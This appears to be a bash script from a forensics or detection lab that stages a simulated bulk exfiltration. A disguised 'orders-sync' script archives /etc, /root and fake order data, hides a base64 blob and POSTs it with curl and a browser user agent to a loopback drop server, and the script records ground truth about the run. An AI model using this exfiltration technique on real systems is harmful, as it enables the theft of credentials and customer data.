#!/bin/bash
# Scenario httpexfil: bulk exfiltration over HTTP. A shell script started later in the
# container tars and gzips /etc, /root and the order exports, base64-encodes the archive
# into a hidden file and POSTs it with curl (browser user agent) to a drop server on
# 127.104.x.y (port 80, 8000, 8080 or 8888). The server reads the request headers and stops:
# the body waits in curl's send queue when the checkpoint is taken.
# Usage: lab/scenarios/httpexfil.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init httpexfil "$@"
lab_use_tools_image

DROP="$(lab_addr 104):$(lab_pick 80 8000 8080 8888)"
URL="http://$DROP/api/v2/telemetry/upload"
UA=$(lab_user_agent)
UPID=$(lab_hex 8)
BLOB=/var/tmp/.cache-$(lab_hex 2)/u.b64
SCRIPT=/usr/local/bin/orders-sync
ORDERS=/srv/orders/orders-$(date +%Y%m).csv
"$LAB_PY" "$LAB_DIR/lib/fakedata.py" customers 3000 >"$WORK/orders.csv" || lab_die "fakedata failed"
lab_template "$SPEC/sync.sh" "$WORK/sync.sh" "BLOB=$BLOB" "UA=$UA" "UPLOAD_ID=$UPID" "URL=$URL"

lab_peer_on drop "$DROP" perl "$PEERS/sink.pl" --listen "$DROP" --read headers --rcvbuf 4096 --summary "$WORK/peer-drop.json"

lab_run --env APP_ENV=prod --hostname orders-api -- \
    sh -c 'date > /var/log/app.log; while :; do sleep 3600; done'
lab_cp "$WORK/orders.csv" "$ORDERS" 0640
lab_cp "$WORK/sync.sh" "$SCRIPT" 0755
lab_exec_bg "$SCRIPT"
lab_wait "drop server read the request headers" 15 \
    lab_json "$WORK/peer-drop.json" 'd["sessions"] and d["sessions"][0]["requests"]'
lab_wait_txq "$DROP" 100000 20

lab_finish "$SCRIPT" "$BLOB" "$ORDERS"

lab_kv_json "$WORK/params.json" "drop=$DROP" "url=$URL" "user_agent=$UA" "upload_id=$UPID" \
    "blob_path=$BLOB" "script_path=$SCRIPT" "archived:=$(lab_json_list /etc /root /srv/orders)" \
    "encoding=tar.gz+base64" "method=POST"
lab_facts --conn "exfil=$DROP"
lab_truth --description "bulk exfiltration over HTTP: curl POSTs base64 of tar.gz of /etc, /root, /srv/orders to $URL; the server stopped reading" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
